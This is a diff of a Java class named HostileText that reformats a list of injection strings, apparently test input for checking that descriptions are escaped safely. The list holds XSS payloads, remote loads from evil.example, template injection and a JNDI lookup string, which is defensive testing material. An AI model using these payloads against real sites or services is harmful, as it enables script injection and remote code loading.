@@ -9,19 +9,18 @@ final class HostileText {
     /** As long as a description may be, in bytes of UTF-8. */
     private static final int LONGEST = 64 * 1024;
 
-    private static final List<String> PIECES =
-            List.of(
-                    "'\"><script>ran('FIELD')</script>",
-                    "<img src=//evil.example/x onerror=ran('FIELD')>",
-                    "<svg onload=ran('FIELD')><style>@import '//evil.example/y'</style></svg>",
-                    "</p></main></body></html><iframe src=//evil.example/z></iframe>",
-                    "<meta http-equiv=refresh content='0;url=//evil.example/'><base href=//evil.example/>",
-                    "<a href=javascript:ran('FIELD')>x</a>",
-                    "<form action=//evil.example/ hx-get=//evil.example/ hx-trigger=load sse-connect=//evil.example/>",
-                    "{shell.csrf}{#each}{{constructor.constructor('ran()')()}}${jndi:ldap://evil.example/}",
-                    "<!--]]>&#60;script&#62;",
-                    "\u0001\u0007\u001b[31m\u007f\u0085\u200b\ufeff\u2028\u2029",
-                    "证\u200d书\ufeff过期 \ud83d\udc68\u200d\ud83d\udc69 \u202e\u2066\ue000\ufffe\uffff ａ．ｃｏｍ");
+    private static final List<String> PIECES = List.of(
+            "'\"><script>ran('FIELD')</script>",
+            "<img src=//evil.example/x onerror=ran('FIELD')>",
+            "<svg onload=ran('FIELD')><style>@import '//evil.example/y'</style></svg>",
+            "</p></main></body></html><iframe src=//evil.example/z></iframe>",
+            "<meta http-equiv=refresh content='0;url=//evil.example/'><base href=//evil.example/>",
+            "<a href=javascript:ran('FIELD')>x</a>",
+            "<form action=//evil.example/ hx-get=//evil.example/ hx-trigger=load sse-connect=//evil.example/>",
+            "{shell.csrf}{#each}{{constructor.constructor('ran()')()}}${jndi:ldap://evil.example/}",
+            "<!--]]>&#60;script&#62;",
+            "\u0001\u0007\u001b[31m\u007f\u0085\u200b\ufeff\u2028\u2029",
+            "证\u200d书\ufeff过期 \ud83d\udc68\u200d\ud83d\udc69 \u202e\u2066\ue000\ufffe\uffff ａ．ｃｏｍ");
 
     private HostileText() {}
 
